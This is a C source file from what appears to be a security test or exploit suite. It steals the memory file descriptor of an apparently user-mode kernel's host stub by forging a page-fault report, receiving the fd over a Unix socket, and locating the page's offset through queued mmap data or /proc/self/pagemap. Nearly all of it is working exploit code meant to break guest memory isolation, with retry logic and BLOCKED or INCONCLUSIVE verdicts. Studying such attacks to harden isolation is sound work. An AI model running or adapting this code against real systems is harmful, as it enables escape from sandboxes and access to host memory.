// SPDX-License-Identifier: GPL-2.0-only
/*
 * Stealing the memory fd: a forged page fault makes the kernel queue an mmap and
 * send the fd to the stub's socket. The attacker receives it before the stub's code.
 */
#include "hostile.h"

static int receive_fd(void)
{
	char byte;
	union {
		char buf[CMSG_SPACE(4 * sizeof(int))];
		struct cmsghdr align;
	} control;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = {
		.msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof(control),
	};
	struct cmsghdr *cmsg;
	int fd;

	if (host_call(SYS_recvmsg, 0, (long)&msg, 0) != 1)
		return -1;
	cmsg = CMSG_FIRSTHDR(&msg);
	if (!cmsg || cmsg->cmsg_type != SCM_RIGHTS)
		return -1;
	memcpy(&fd, CMSG_DATA(cmsg), sizeof(fd));
	return fd;
}

/* The batch in the stub's data has address, length and offset. */
long queued_offset(uintptr_t addr)
{
	const uint64_t *p = (const uint64_t *)stub.data;
	const uint64_t *end = (const uint64_t *)stub.end - 3;

	for (; p < end; p++)
		if (p[0] == addr && p[1] == PAGE)
			return (long)p[2];
	return -1;
}

/* Root can ask the guest kernel for the frame. */
static long pagemap_offset(uintptr_t addr)
{
	uint64_t entry = 0;
	int fd = open("/proc/self/pagemap", O_RDONLY);

	if (fd < 0)
		return -1;
	if (pread(fd, &entry, sizeof(entry), addr / PAGE * sizeof(entry)) !=
	    sizeof(entry))
		entry = 0;
	close(fd);
	entry &= (1UL << 55) - 1;
	return entry ? (long)(entry * PAGE) : -1;
}

static void forge_fault(uintptr_t addr, bool write)
{
	greg_t *regs = report.frame->gregs;

	regs[REG_TRAPNO] = 14;
	regs[REG_ERR] = write ? 6 : 4;
	regs[REG_CR2] = (greg_t)addr;
	forge_report(SIGSEGV);
	await_resume();
}

/*
 * Makes the kernel send the memory fd for a page at @addr, which must not be present
 * yet. If a timer tick comes in between, the stub's own code receives the fd: the
 * caller tries again with another page.
 */
bool steal_fd(uintptr_t addr, bool write, struct frame_grant *grant)
{
	prepare_forgery();
	step("forging a page fault report");
	forge_fault(addr, write);
	step("receiving the memory fd");
	grant->fd = receive_fd();
	grant->offset = queued_offset(addr);
	if (grant->fd >= 0 && grant->offset < 0)
		grant->offset = pagemap_offset(addr);
	if (grant->fd >= 0 && grant->offset >= 0)
		return true;
	if (grant->fd >= 0)	/* so that the next one has the same number */
		host_call(SYS_close, grant->fd);
	return false;
}

/* Finds the sites first, since that forks and so makes reports. */
void prepare_theft(void)
{
	need_report();
	(void)site_for(SYS_recvmsg);
	(void)site_for(SYS_mmap);
	(void)site_for(SYS_close);
	block_ticks();
}

/* Returns the address of the page that came with the fd; @size bytes are reserved there. */
uintptr_t steal_fd_somewhere(size_t size, struct frame_grant *grant)
{
	int i;

	for (i = 0; i < STEAL_TRIES; i++) {
		uintptr_t window = reserve(size);

		if (steal_fd(window, true, grant))
			return window;
	}
	conclude(BLOCKED, "the kernel did not hand out the memory fd in %d tries",
		 STEAL_TRIES);
}

/* Physical memory ends with the last zone. */
size_t memory_size(void)
{
	unsigned long value, spanned = 0, pages = 0;
	char line[128];
	FILE *f = fopen("/proc/zoneinfo", "r");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, " spanned %lu", &value) == 1)
			spanned = value;
		if (sscanf(line, " start_pfn: %lu", &value) == 1 && spanned &&
		    value + spanned > pages)
			pages = value + spanned;
	}
	if (f)
		fclose(f);
	if (!pages)
		conclude(INCONCLUSIVE, "/proc/zoneinfo does not tell the memory's size");
	return pages * PAGE;
}
